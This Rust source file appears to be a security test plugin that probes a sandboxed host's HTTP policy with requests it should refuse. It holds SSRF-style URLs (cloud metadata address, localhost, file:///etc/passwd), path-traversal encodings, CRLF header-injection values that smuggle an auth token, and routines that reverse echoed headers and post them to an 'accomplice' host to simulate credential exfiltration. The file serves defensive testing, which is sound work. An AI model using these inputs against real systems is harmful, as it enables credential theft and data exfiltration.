//! Attacks through `http.send`: requests that no endpoint allows, and header fields that only the host may set.

use std::collections::BTreeMap;

use crate::{
    BARE_HOST, HOST,
    bindings::jackfield::provider::{
        http::{self, Header, Method, Request, Response, send},
        types::{Error, Report, ReportValue},
    },
    number, text,
};

/// The number of characters in one piece of a long text.
const PIECE: usize = 500;

/// The number of bytes that the echo endpoint returns in all its encodings.
pub(crate) const FILLER: usize = 4 << 10;

/// The largest number of pieces to report.
const PIECES: usize = 64;

/// Sends a GET and returns its outcome.
pub(crate) fn get(host: &str, path: &str) -> String {
    outcome(&send_request(Method::Get, &format!("https://{host}{path}"), &[]))
}

/// Sends a GET to `/ok` and maps the response as a real plugin would.
pub(crate) fn ok_or_error() -> Result<(), Error> {
    match send_request(Method::Get, &format!("https://{HOST}/ok"), &[]) {
        Ok(response) if response.status == 401 => Err(Error::Unauthorized("invalid_token".to_owned())),
        Ok(_) => Ok(()),
        Err(error) => Err(Error::Http(error)),
    }
}

pub(crate) fn flood(requests: usize) -> Vec<Report> {
    let mut outcomes = BTreeMap::new();
    for _ in 0..requests {
        *outcomes.entry(get(HOST, "/ok")).or_insert(0) += 1;
    }
    let (sent, refused): (Vec<_>, Vec<_>) = outcomes.iter().partition(|(outcome, _)| outcome.starts_with("sent"));
    let total = |of: &[(&String, &usize)]| of.iter().map(|(_, count)| **count).sum();
    let mut reports = vec![number("sent", total(&sent)), number("refused", total(&refused))];
    reports.extend(refused.first().map(|(outcome, _)| text("refusal", outcome)));
    reports
}

pub(crate) fn undeclared_paths() -> Vec<Report> {
    const PATHS: [&str; 14] = [
        "/undeclared",
        "/",
        "/OK",
        "/ok/",
        "//ok",
        "/ok/../undeclared",
        "/ok/%2e%2e/undeclared",
        "/ok%2fundeclared",
        "/ok;undeclared",
        "/ok%00",
        "/./ok",
        "/%6fk",
        "/ok\\..\\undeclared",
        "/ok#fragment",
    ];
    PATHS.iter().enumerate().map(|(index, path)| text(&format!("path_{index}"), &get(HOST, path))).collect()
}

pub(crate) fn undeclared_method() -> Vec<Report> {
    let url = format!("https://{HOST}/ok");
    let methods = [
        ("head", Method::Head),
        ("post", Method::Post),
        ("put", Method::Put),
        ("patch", Method::Patch),
        ("delete", Method::Delete),
    ];
    methods.into_iter().map(|(name, method)| text(name, &outcome(&send_request(method, &url, &[])))).collect()
}

pub(crate) fn undeclared_hosts() -> Vec<Report> {
    let urls = [
        "https://undeclared.example.net/ok".to_owned(),
        format!("http://{HOST}/ok"),
        format!("https://{HOST}:8443/ok"),
        format!("https://{HOST}./ok"),
        format!("https://sub.{HOST}/ok"),
        format!("https://{HOST}@undeclared.example.net/ok"),
        format!("https://undeclared.example.net\\@{HOST}/ok"),
        format!("https://{HOST}%2eundeclared.example.net/ok"),
        "https://127.0.0.1/ok".to_owned(),
        "https://[::1]/ok".to_owned(),
        "https://169.254.169.254/latest/meta-data/".to_owned(),
        "https://localhost/ok".to_owned(),
        "file:///etc/passwd".to_owned(),
        format!("https:{HOST}/ok"),
        format!("//{HOST}/ok"),
        String::new(),
    ];
    urls.iter()
        .enumerate()
        .map(|(index, url)| text(&format!("host_{index}"), &outcome(&send_request(Method::Get, url, &[]))))
        .collect()
}

pub(crate) fn own_authorization() -> Vec<Report> {
    vec![
        text("on_credential_host", &with_header(HOST, "/ok", "Authorization", "Bearer own")),
        text("on_bare_host", &with_header(BARE_HOST, "/bare", "authorization", "Bearer own")),
    ]
}

pub(crate) fn own_place() -> Vec<Report> {
    const SPELLINGS: [&str; 9] = [
        "X-Auth-Token",
        "x-auth-token",
        "X-AUTH-TOKEN",
        "x_auth_token",
        "X_Auth-Token",
        "X.Auth.Token",
        " X-Auth-Token",
        "X-Auth-Token ",
        "X-Auth-Token:",
    ];
    let spellings = SPELLINGS.iter().enumerate();
    spellings.map(|(index, name)| text(&format!("place_{index}"), &with_header(HOST, "/ok", name, "own"))).collect()
}

pub(crate) fn header_injection() -> Vec<Report> {
    const FIELDS: [(&str, &str, &str); 27] = [
        ("cr", "X-A", "a\rX-Auth-Token: own"),
        ("lf", "X-A", "a\nX-Auth-Token: own"),
        ("crlf", "X-A", "a\r\nX-Auth-Token: own"),
        ("nul", "X-A", "a\0b"),
        ("escape", "X-A", "\x1b[31m"),
        ("not_ascii", "X-A", "caf\u{e9}"),
        ("folded", "X-A", "a\r\n b"),
        ("crlf_in_name", "X-A: a\r\nX-B", "b"),
        ("colon_in_name", "X-A:", "a"),
        ("blank_in_name", "X A", "a"),
        ("empty_name", "", "a"),
        ("pseudo_header", ":authority", "undeclared.example.net"),
        ("host", "Host", "undeclared.example.net"),
        ("content_length", "Content-Length", "0"),
        ("transfer_encoding", "Transfer-Encoding", "chunked"),
        ("connection", "Connection", "X-Auth-Token"),
        ("keep_alive", "Keep-Alive", "timeout=600"),
        ("te", "TE", "trailers"),
        ("trailer", "Trailer", "X-A"),
        ("upgrade", "Upgrade", "h2c"),
        ("expect", "Expect", "100-continue"),
        ("proxy_authorization", "Proxy-Authorization", "Basic b3duOm93bg=="),
        ("cookie", "Cookie", "session=own"),
        ("accept_encoding", "Accept-Encoding", "zstd"),
        ("method_override", "X-HTTP-Method-Override", "DELETE"),
        ("forwarded", "X-Forwarded-Host", "undeclared.example.net"),
        ("original_url", "X-Original-URL", "/undeclared"),
    ];
    let mut reports: Vec<_> =
        FIELDS.iter().map(|(what, name, value)| text(what, &with_header(HOST, "/ok", name, value))).collect();
    let many = vec![("X-Many".to_owned(), "m".to_owned()); 65];
    reports.push(text("too_many", &outcome(&send_request(Method::Get, &format!("https://{HOST}/ok"), &many))));
    reports.push(text("too_long", &with_header(HOST, "/ok", "X-Long", &"l".repeat((8 << 10) + 1))));
    reports
}

/// Reports the response of the echo endpoint in pieces, up to the limits of the contract.
pub(crate) fn echo() -> Vec<Report> {
    let response = match send_request(Method::Post, &format!("https://{HOST}/echo"), &[]) {
        Ok(response) => response,
        error => return vec![text("echo", &outcome(&error))],
    };
    let headers: String = response.headers.iter().map(|Header { name, value }| format!("{name}: {value}\n")).collect();
    vec![report_in_pieces("headers", &headers), report_in_pieces("body", &String::from_utf8_lossy(&response.body))]
}

/// Sends a long body to the echo endpoint, and the response to the other host, backwards.
pub(crate) fn echo_backwards() -> Vec<Report> {
    let filler = "f".repeat(FILLER).into_bytes();
    let echo = match post(&format!("https://{HOST}/echo"), filler) {
        Ok(response) => response,
        error => return vec![text("echo", &outcome(&error))],
    };
    let headers: String = echo.headers.iter().map(|Header { name, value }| format!("{name}: {value}\n")).collect();
    let collected = post(&format!("https://{BARE_HOST}/collect"), backwards(headers.as_bytes(), &echo.body));
    vec![text("collected", &outcome(&collected)), number("bytes", echo.body.len())]
}

pub(crate) fn backwards(headers: &[u8], body: &[u8]) -> Vec<u8> {
    headers.iter().chain(body).rev().copied().collect()
}

pub(crate) fn guess_in_url(reversed: &str) -> Vec<Report> {
    vec![text("guess", &get(BARE_HOST, &format!("/bare?guess={}", reverse(reversed))))]
}

pub(crate) fn guess_in_header(reversed: &str) -> Vec<Report> {
    vec![text("guess", &with_header(HOST, "/ok", "X-Guess", &reverse(reversed)))]
}

/// Sends a dictionary that contains the guess.
pub(crate) fn guess_in_body(reversed: &str) -> Vec<Report> {
    let mut dictionary: Vec<String> = (0..1_000).map(|number| format!("word-{number}")).collect();
    dictionary.insert(500, reverse(reversed));
    vec![text("guess", &outcome(&post(&format!("https://{HOST}/echo"), dictionary.join("\n").into_bytes())))]
}

/// Reports what the accomplice's server returns.
pub(crate) fn guess_by_accomplice(reversed: &str) -> Vec<Report> {
    match send_request(Method::Get, &format!("https://{BARE_HOST}/bare?{reversed}"), &[]) {
        // In reverse, because the service's own response must not contain it either.
        Ok(response) => vec![text("response", &reverse(&String::from_utf8_lossy(&response.body)))],
        error => vec![text("response", &outcome(&error))],
    }
}

pub(crate) fn reverse(text: &str) -> String {
    text.chars().rev().collect()
}

pub(crate) fn report_in_pieces(name: &str, long: &str) -> Report {
    let characters: Vec<char> = long.chars().collect();
    let pieces = characters.chunks(PIECE).take(PIECES).map(|piece| piece.iter().collect()).collect();
    Report { name: name.to_owned(), value: ReportValue::Texts(pieces) }
}

fn with_header(host: &str, path: &str, name: &str, value: &str) -> String {
    outcome(&send_request(Method::Get, &format!("https://{host}{path}"), &[(name.to_owned(), value.to_owned())]))
}

fn send_request(method: Method, url: &str, headers: &[(String, String)]) -> Result<Response, http::Error> {
    let body = matches!(method, Method::Post).then(|| b"hello=echo".to_vec());
    let headers = headers.iter().map(|(name, value)| Header { name: name.clone(), value: value.clone() }).collect();
    send(&Request { method, url: url.to_owned(), headers, body })
}

fn post(url: &str, body: Vec<u8>) -> Result<Response, http::Error> {
    send(&Request { method: Method::Post, url: url.to_owned(), headers: Vec::new(), body: Some(body) })
}

/// Formats the result of a request for tests: `sent 200`, or the reason, such as `denied: endpoint`.
fn outcome(result: &Result<Response, http::Error>) -> String {
    match result {
        Ok(response) => format!("sent {}", response.status),
        Err(http::Error::Denied(denial)) => format!("denied: {}: {}", denial.rule, denial.message),
        Err(http::Error::TimedOut) => "timed out".to_owned(),
        Err(http::Error::TooLarge) => "too large".to_owned(),
        Err(http::Error::Unreachable(reason)) => format!("unreachable: {reason}"),
        Err(http::Error::RateLimited(seconds)) => format!("rate limited: {seconds}"),
        Err(http::Error::Malformed(reason)) => format!("malformed: {reason}"),
        Err(http::Error::CredentialRefused(refusal)) => format!("credential refused: {}", refusal.status),
    }
}
